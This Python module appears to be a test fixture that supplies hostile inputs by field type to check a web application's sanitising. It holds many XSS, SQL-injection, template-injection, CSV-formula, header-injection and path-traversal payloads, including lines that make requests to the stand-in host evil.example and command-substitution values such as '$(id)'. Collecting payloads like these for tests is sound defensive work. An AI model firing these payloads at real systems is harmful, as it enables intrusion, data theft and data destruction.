"""What an attacker types, by where it is typed. Whatever runs calls ``pwned()``.

Addresses lead to ``evil.example``, which no page may ask for anything.
"""

import random

CALL = "pwned(1)"
EVENTS = [
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onstart",
    "onbegin",
    "onpageshow",
    "onanimationstart",
    "onpointerenter",
    "onbeforetoggle",
    "onscrollend",
    "oncontentvisibilityautostatechange",
]
SCRIPTS = [
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script/x>{CALL}</script/x>",
    f"<script\x0c>{CALL}</script>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"</script><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"--><script>{CALL}</script>",
    f"]]><script>{CALL}</script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=https://evil.example/x.js async></script>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    "<script src='data:text/javascript,pwned(1)'></script>",
    f"<script>/*--><!--*/{CALL}</script>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;script&#62;{CALL}&#60;/script&#62;",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"＜script＞{CALL}＜/script＞",
    "<script nonce=''>pwned(1)</script>",
]
HANDLERS = [
    *(f"<img src=x {event}={CALL}>" for event in EVENTS[:5]),
    *(f"<body {event}={CALL}>" for event in EVENTS[:2]),
    *(f"<details open {event}={CALL}>a" for event in EVENTS[5:]),
    *(f"<input autofocus {event}={CALL}>" for event in ("onfocus", "onblur")),
    *(f"<video src=x {event}={CALL}>" for event in ("onerror", "onloadstart")),
    *(f"<audio src=x {event}={CALL}>" for event in ("onerror", "onemptied")),
    f"<img/src=x/onerror={CALL}>",
    f"<img src=x\nonerror\n=\n{CALL}>",
    "<img src=x onerror=&#112;wned(1)>",
    f"<img src='x' onerror='{CALL}'//>",
    f"<img src=`x`onerror={CALL}>",
    f"<iframe onload={CALL}></iframe>",
    f"<object onerror={CALL} data=x></object>",
    f"<marquee onstart={CALL}>a</marquee>",
    f"<select autofocus onfocus={CALL}>",
    f"<x contenteditable onfocus={CALL} tabindex=0 autofocus>",
    f"<button popovertarget=p>a</button><p popover id=p onbeforetoggle={CALL}>a",
    f"<style onload={CALL}></style>",
    f"<link rel=stylesheet href=x onerror={CALL}>",
]
ATTRIBUTES = [
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f"></a><script>{CALL}</script>",
    f'" onmouseover="{CALL}',
    f"' onmouseover='{CALL}",
    f'" autofocus onfocus="{CALL}" x="',
    f"' autofocus onfocus='{CALL}' x='",
    f"` onfocus={CALL} autofocus `",
    f'x" style="animation-name:x" onanimationstart="{CALL}',
    f'\\"><img src=x onerror={CALL}>',
    f"\\';{CALL};//",
    f'";{CALL};//',
    f"');{CALL};//",
    "\"}]}'></template>",
    f"*/{CALL}/*",
    f"${{{CALL}}}",
    f"`-{CALL}-`",
]
SVG = [
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href='data:,{CALL}'></script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{CALL}><a href=x>a</a>",
    f"<svg><a xlink:href='javascript:{CALL}'><text y=20>a</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned(1) />#x'></use></svg>",
    f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    "<svg><image href='https://evil.example/a.png'></image></svg>",
    "<svg><style>@import 'https://evil.example/a.css'</style></svg>",
    f"<svg><desc><img src=x onerror={CALL}></desc></svg>",
    f"<math><a xlink:href='javascript:{CALL}'>a</a></math>",
    f"<math><maction actiontype='statusline#{CALL}'>a</maction></math>",
    f"<math href='javascript:{CALL}'>a</math>",
]
MUTATION = [
    f"<math><mtext><table><mglyph><style><!--</style><img src=x onerror={CALL}>",
    f"<svg></p><style><a id='</style><img src=x onerror={CALL}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f"<table><td><svg><desc><td></desc><img src=x onerror={CALL}>",
    f"<select><style></select><img src=x onerror={CALL}></style>",
    f"<template><p title='</template><img src=x onerror={CALL}>'>",
    f"<xmp><p title='</xmp><img src=x onerror={CALL}>'>",
    f"<textarea><p title='</textarea><img src=x onerror={CALL}>'>",
    f"<!--[if gte IE 4]><script>{CALL}</script><![endif]-->",
    f"<![CDATA[<script>{CALL}</script>]]>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<!--!><img src=x onerror={CALL}>",
    f"<a href='x'><b><a href=y><img src=x onerror={CALL}></b>",
    f"<p><svg><p><style><g title='</style><img src=x onerror={CALL}>'>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<plaintext><script>{CALL}</script>",
]
FETCHES = [
    "<img src=https://evil.example/a.png>",
    "<img srcset='https://evil.example/a.png 2x'>",
    "<picture><source srcset=https://evil.example/a></picture>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<link rel=preload as=image href=https://evil.example/a.png>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<link rel=attachment href='file:///etc/passwd'>",
    "<a rel=attachment href='file:///etc/passwd'>a</a>",
    "<iframe src=https://evil.example/></iframe>",
    "<embed src=https://evil.example/x>",
    "<object data=https://evil.example/x></object>",
    "<video poster=https://evil.example/x></video>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=a autofocus></form>",
    "<button form=x formaction=https://evil.example/>a</button>",
    "<table background=https://evil.example/a.png><tr><td>a</table>",
    "<p style=\"background:url('https://evil.example/a.png')\">a</p>",
    "<style>@import url(https://evil.example/a.css);</style>",
    "<style>*{background:url(https://evil.example/a)}</style>",
    "<p style='position:fixed;inset:0;z-index:9999'>a</p>",
    "<a ping=https://evil.example/ href=/>a</a>",
    "<p style='width:expression(pwned(1))'>a</p>",
]
TEMPLATES = [
    *("{{7*7}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{request.user.password}}"),
    *(
        "{% load x %}",
        "{% include '/etc/passwd' %}",
        "{% debug %}",
        "{#",
        "{% endblock %}",
    ),
    *("{{settings.SECRET_KEY}}", "{{constructor.constructor('pwned(1)')()}}"),
    *(
        "{0.__class__.__mro__}",
        "%(x)s %s %n %d",
        "{x!r:>99999999}",
        "$(id)",
        "`id`",
        "; id",
    ),
    *("%s%s%s%s%s%n", "{}", "%", "\\N{BULLET}", "%c3%28"),
]
DATABASE = [
    *("' OR 1=1 --", "'; DROP TABLE core_document; --", '" OR ""="', "1) OR (1=1"),
    *("' UNION SELECT password FROM accounts_user --", "\\' OR 1=1 --", "a%' OR '%'='"),
    *("'||pg_sleep(9)||'", "%_%", "&|!:*()<->", "a:*b", "''':*", "$$;SELECT 1;$$"),
]
FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"),
    *("\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", '"=1+1', "'=1+1", ";=1+1"),
    *('=HYPERLINK("https://evil.example/","a")', '=WEBSERVICE("https://evil.example")'),
    *(
        '=IMPORTXML("https://evil.example","//a")',
        "%0A=1+1",
        "\u00a0=1+1",
        "\ufeff=1+1",
    ),
]
UNICODE = [
    *(
        "\u202egnp.exe",
        "\u2066a\u2069",
        "\u200b\u200c\u200d",
        "\ufeff",
        "\u2028a\u2029",
    ),
    *("a" + "\u0301" * 150, "𝔞𝔟𝔠", "\U000e0041\U000e0042", "\ud7ff\ue000", "\uffff"),
    *(
        "İıſK",
        "ß" * 50,
        "👩‍👩‍👧‍👦" * 8,
        "﷽" * 20,
        "\x01\x02\x7f\x9f",
        "\x1b[31mred\x1b[0m",
    ),
    *("ｊａｖａｓｃｒｉｐｔ:pwned(1)", "؜‏‎", "\u180e", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!"),
]
HEADERS = [
    *(
        "a\r\nSet-Cookie: x=1",
        "a\nBcc: x@evil.example",
        "a\r\n\r\n<script>pwned(1)</script>",
    ),
    *("a%0d%0aLocation: https://evil.example", "a\u2028Subject: b", "a\x0b\x0cX: y"),
]
NUL = ["a\x00b", "\x00", f"<scr\x00ipt>{CALL}</scr\x00ipt>", "\x00=1+1"]
URLS = [
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f" javascript:{CALL}",
    f"java\tscript:{CALL}",
    f"java\nscript:{CALL}",
    f"\x01javascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"javascript://evil.example/%0a{CALL}",
    f"javascript:/*--></title></style></textarea></script>*/{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={CALL}>",
    f"vbscript:{CALL}",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    "//evil.example/x",
    "/\\evil.example/x",
    "https:evil.example",
    'https://evil.example/" onmouseover="pwned(1)',
    "https://evil.example/'><script>pwned(1)</script>",
    "https://portal.example.org@evil.example/",
    "https://еvil.example/",
    "https://evil.example/%00",
    "http://[::1]:1/",
]
EMAILS = [
    "a@evil.example\r\nBcc: b@evil.example",
    f'"<script>{CALL}</script>"@evil.example',
    f"a@evil.example?cc=b@evil.example&body=<script>{CALL}</script>",
    f"<img/src/onerror={CALL}>@evil.example",
    "a@evil.example,b@evil.example",
]
FILE_NAMES = [
    *(
        "../../etc/passwd",
        "..\\..\\boot.ini",
        "/etc/passwd",
        "C:\\evil.pdf",
        ".htaccess",
    ),
    *(
        "evil\u202efdp.exe",
        "a.pdf\r\nSet-Cookie: x=1",
        'a".pdf',
        "a;b.pdf",
        "a\x00.pdf",
    ),
    *(
        f"<img src=x onerror={CALL}>.pdf",
        "x" * 240 + ".pdf",
        "CON.pdf",
        "=1+1.pdf",
        "%2e%2e.pdf",
    ),
]

TEXT = [
    *(*SCRIPTS, *HANDLERS, *ATTRIBUTES, *SVG, *MUTATION, *FETCHES, *TEMPLATES),
    *(*DATABASE, *FORMULAS, *UNICODE, *HEADERS),
]
BY_CLASS = {
    "text": TEXT,
    "rich text": TEXT + [f'<a href="{url}">a</a>' for url in URLS],
    "url": URLS,
    "e-mail": EMAILS,
    "file name": FILE_NAMES,
}


def dealer(seed, kind):
    """An endless row of payloads of one kind, in an order of its own."""
    pick = random.Random(f"{seed} {kind}")
    while True:
        yield from pick.sample(BY_CLASS[kind], len(BY_CLASS[kind]))
